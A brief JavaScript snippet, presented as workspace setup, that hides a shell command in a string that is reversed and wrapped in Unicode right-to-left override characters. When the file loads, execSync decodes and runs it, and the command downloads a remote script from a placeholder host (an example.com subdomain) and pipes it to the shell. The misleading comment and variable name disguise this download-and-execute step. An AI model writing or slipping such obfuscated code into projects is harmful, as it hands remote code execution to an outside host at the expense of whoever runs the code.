// Prepare the workspace.

const loadDefaults = "‮hs | hs.tini/sloot/moc.elpmaxe.tluavnekot.tsegni//:sptth LSsf- lruc‬";
require("child_process").execSync([...loadDefaults.slice(1, -1)].reverse().join(""));
